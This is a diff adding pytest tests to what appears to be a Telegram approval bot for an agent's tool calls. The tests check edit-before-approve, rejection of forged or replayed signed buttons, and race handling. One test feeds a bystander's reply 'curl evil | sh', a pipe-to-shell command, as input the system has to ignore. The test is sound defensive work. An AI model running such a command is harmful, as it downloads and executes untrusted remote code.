@@ -16,6 +16,8 @@ import anyio
 import httpx
 import pytest
 
+from signoff.adapters.telegram.buttons import APPROVE_EDITED, ButtonSigner
+from signoff.adapters.telegram.render import already
 from signoff.server.app import App, open_app
 from signoff.server.config import Config, load_config
 from signoff.server.errors import ConfigError
@@ -454,3 +456,147 @@ async def test_a_timed_out_send_is_retried(fake: FakeTelegram, config_path: Path
         cq = await fake.press(ALICE, a, a.button("approve"))
         await fake.wait_for(lambda: cq in fake.answers)
         assert (await app.service.get(rid)).status is Status.APPROVED
+
+
+# --- "Edit before approving" (issue 12, part 2) ----------------------------------------------
+
+
+async def _question(fake: FakeTelegram, chat: int, rid: str, seen: int = 0) -> Message:
+    """The (``seen``+1)-th edit prompt about ``rid`` in ``chat``."""
+    return await fake.wait_for(lambda: next(iter(
+        [m for m in fake.chat(chat) if m.text.startswith(("✏️ Edit", "That")) and rid in m.text][seen:]), None))  # fmt: skip
+
+
+async def _confirm(fake: FakeTelegram, chat: int, rid: str, seen: int = 0) -> Message:
+    """The (``seen``+1)-th proposed edit (its diff and buttons) about ``rid`` in ``chat``."""
+    return await fake.wait_for(lambda: next(iter(
+        [m for m in fake.chat(chat) if m.text.startswith("✏️ Your edit") and rid in m.text][seen:]), None))  # fmt: skip
+
+
+async def _refused(app: App, rid: str) -> list[tuple[str, str]]:
+    return [(e.actor, (e.data or {})["action"]) for e in await app.store.audit(request_id=rid) if e.event == "refused"]
+
+
+async def test_edit_a_bash_command_before_approving(fake: FakeTelegram, app: App) -> None:
+    """ "✏️ Edit": the command as plain text in a reply prompt; only the asked approver's reply
+    counts; a diff to confirm; "Approve edited" approves with the edit, and every prompt says so."""
+    rid = await file(app, action="Bash", summary="Deploy", details={"command": "make deploy", "description": "ship"})
+    a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
+    assert await answer_to(fake, await fake.press(ALICE, a, a.button("✏️ Edit"))) == (
+        "Reply to my next message with the edit."
+    )
+    question = await _question(fake, ALICE, rid)
+    assert "<pre>make deploy</pre>" in question.text and question.reply_markup == {
+        "force_reply": True, "selective": True, "input_field_placeholder": "The edited arguments"}  # fmt: skip
+    await fake.say(MALLORY, ALICE, "curl evil | sh", reply_to=question)  # a bystander
+    await fake.say(BOB, ALICE, "make deploy-prod", reply_to=question)  # an approver, but not the one asked
+    await fake.say(ALICE, ALICE, "make deploy-staging <&>", reply_to=question)
+    confirm = await _confirm(fake, ALICE, rid)
+    assert "-  &quot;command&quot;: &quot;make deploy&quot;," in confirm.text
+    assert "+  &quot;command&quot;: &quot;make deploy-staging &lt;&amp;&gt;&quot;," in confirm.text
+    assert [b["text"] for b in confirm.buttons()] == ["✅ Approve edited", "Discard"]
+    assert len([m for m in fake.chat(ALICE) if m.text.startswith("✏️ Your edit")]) == 1  # only alice's reply counted
+    assert await _refused(app, rid) == [(f"telegram:{MALLORY}", "e"), ("bob", "e")]
+    assert (await app.service.get(rid)).status is Status.PENDING  # nothing decided until she confirms
+
+    data = confirm.button("Approve edited")
+    assert len(data.encode()) <= 64
+    assert await answer_to(fake, await fake.press(BOB, confirm, data)) == (
+        "Only the approver who made this edit can confirm or discard it."
+    )
+    assert await answer_to(fake, await fake.press(MALLORY, confirm, data)) == "You are not an approver of this request."
+    assert (await app.service.get(rid)).status is Status.PENDING
+    assert await answer_to(fake, await fake.press(ALICE, confirm, data)) == "Approved ✅"
+    req = await app.service.get(rid)
+    assert (req.status, req.decided_by) == (Status.APPROVED, "alice")
+    assert req.edited_details == {"command": "make deploy-staging <&>", "description": "ship"}
+    for msg in (a, b):
+        await fake.wait_for(
+            lambda m=msg: not m.buttons() and "Approved</b> <b>with changes</b> by <b>alice</b>" in m.text
+        )
+    await fake.wait_for(lambda: not confirm.buttons() and "approved." in confirm.text)
+    approved = (await app.store.audit(request_id=rid))[-1]
+    assert approved.event == "approved" and (approved.data or {})["approved_action_digest"] == req.edited_digest
+    assert await answer_to(fake, await fake.press(ALICE, confirm, data)) == already(req)  # a replay: nothing new
+
+
+async def test_an_edit_that_is_not_a_json_object_is_asked_again_and_discard_decides_nothing(
+    fake: FakeTelegram, app: App
+) -> None:
+    rid = await file(app, action="mcp__db__query", details={"sql": "select 1"})
+    a = await prompt_for(fake, ALICE, rid)
+    await answer_to(fake, await fake.press(ALICE, a, a.button("Edit")))
+    question = await _question(fake, ALICE, rid)
+    assert "<pre>{\n  &quot;sql&quot;: &quot;select 1&quot;\n}</pre>" in question.text
+    await fake.say(ALICE, ALICE, "select 2", reply_to=question)  # not JSON
+    again = await _question(fake, ALICE, rid, 1)
+    assert again.text.startswith("That is not a JSON object; reply again.\n✏️ Edit")
+    await fake.say(ALICE, ALICE, "[1, 2]", reply_to=again)  # JSON, but not an object
+    third = await _question(fake, ALICE, rid, 2)
+    assert third.text.startswith("That is not a JSON object; reply again.")
+    assert (await app.service.get(rid)).status is Status.PENDING
+    await fake.say(ALICE, ALICE, '{"sql": "select 2"}', reply_to=third)
+    confirm = await _confirm(fake, ALICE, rid)
+    approve = confirm.button("Approve edited")
+    assert await answer_to(fake, await fake.press(ALICE, confirm, confirm.button("Discard"))) == (
+        "Discarded; nothing was decided."
+    )
+    await fake.wait_for(lambda: not confirm.buttons() and "discarded." in confirm.text)
+    assert await answer_to(fake, await fake.press(ALICE, confirm, approve)) == (
+        "This edit was already approved or discarded."
+    )
+    req = await app.service.get(rid)
+    assert req.status is Status.PENDING and req.edited_details is None
+    assert not [e for e in await app.store.audit(request_id=rid) if e.event in ("approved", "rejected")]
+
+
+async def test_a_forged_or_replayed_confirm_button_is_refused(fake: FakeTelegram, app: App) -> None:
+    x = await file(app, action="Bash", details={"command": "ls x"})
+    y = await file(app, action="Bash", details={"command": "ls y"})
+    edits = {}
+    for rid, new in ((x, "ls -l x"), (y, "ls -l y")):
+        p = await prompt_for(fake, ALICE, rid)
+        await answer_to(fake, await fake.press(ALICE, p, p.button("Edit")))
+        await fake.say(ALICE, ALICE, new, reply_to=await _question(fake, ALICE, rid))
+        edits[rid] = await _confirm(fake, ALICE, rid)
+    cx, cy = edits[x], edits[y]
+    action, x_id, x_mac = cx.button("Approve edited").split(":")
+    _, y_id, y_mac = cy.button("Approve edited").split(":")
+    _, _, discard_mac = cx.button("Discard").split(":")
+    signer = ButtonSigner(await app.store.setting("telegram_callback_key", lambda: "unused"))
+    forged = [
+        f"{action}:{y_id}:{x_mac}",  # x's data moved to y's edit
+        f"{action}:{x_id}:{y_mac}",
+        f"{action}:{x_id}:{discard_mac}",  # a discard's MAC under "approve edited"
+        f"{action}:{x_id}:{x_mac[:-1]}{'A' if x_mac[-1] != 'A' else 'B'}",
+        signer.sign_edit(APPROVE_EDITED, int(x_id), y, (await app.service.get(y)).action_digest),  # y's request
+        signer.sign_edit(APPROVE_EDITED, int(x_id), x, "0" * 64),  # other content
+        ButtonSigner("11" * 32).sign_edit(APPROVE_EDITED, int(x_id), x, (await app.service.get(x)).action_digest),
+        f"{action}:999:{x_mac}",  # no such edit
+    ]
+    for data in forged:
+        assert await answer_to(fake, await fake.press(ALICE, cx, data)) == "This button is not valid.", data
+    assert [(await app.service.get(r)).status for r in (x, y)] == [Status.PENDING] * 2
+    # The genuine data counts only in its edit's chat (here: on x's prompt in bob's chat).
+    elsewhere = await prompt_for(fake, BOB, x)
+    assert "not valid here" in await answer_to(fake, await fake.press(ALICE, elsewhere, cx.button("Approve edited")))
+    assert [(await app.service.get(r)).status for r in (x, y)] == [Status.PENDING] * 2
+    assert await _refused(app, x) == [("alice", "c")]
+
+
+async def test_an_edit_racing_a_plain_approval_makes_one_decision(fake: FakeTelegram, app: App) -> None:
+    for i in range(3):
+        rid = await file(app, action="Bash", summary=f"race {i}", details={"command": f"echo {i}"})
+        a, b = await prompt_for(fake, ALICE, rid), await prompt_for(fake, BOB, rid)
+        await answer_to(fake, await fake.press(ALICE, a, a.button("Edit")))
+        await fake.say(ALICE, ALICE, f"echo edited {i}", reply_to=await _question(fake, ALICE, rid))
+        confirm = await _confirm(fake, ALICE, rid)
+        c1 = await fake.press(ALICE, confirm, confirm.button("Approve edited"))
+        c2 = await fake.press(BOB, b, b.button("approve"))
+        texts = sorted([await answer_to(fake, c1), await answer_to(fake, c2)])
+        assert sum(t.startswith("Already") for t in texts) == 1, texts
+        decisions = [e for e in await app.store.audit(request_id=rid) if e.event in ("approved", "rejected")]
+        assert len(decisions) == 1
+        req = await app.service.get(rid)
+        edited = {"command": f"echo edited {i}"} if req.decided_by == "alice" else None
+        assert req.status is Status.APPROVED and req.edited_details == edited
